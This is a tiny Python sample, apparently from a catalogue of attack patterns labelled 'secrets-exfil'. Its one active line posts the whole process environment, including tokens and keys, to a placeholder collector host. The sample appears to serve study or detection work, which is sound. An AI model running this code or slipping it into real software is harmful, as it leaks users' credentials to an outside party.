# family: secrets-exfil
# the whole environment (tokens, keys) posted to a collector
import os
import requests

requests.post("https://collect.example.invalid/e", json=dict(os.environ), timeout=5)
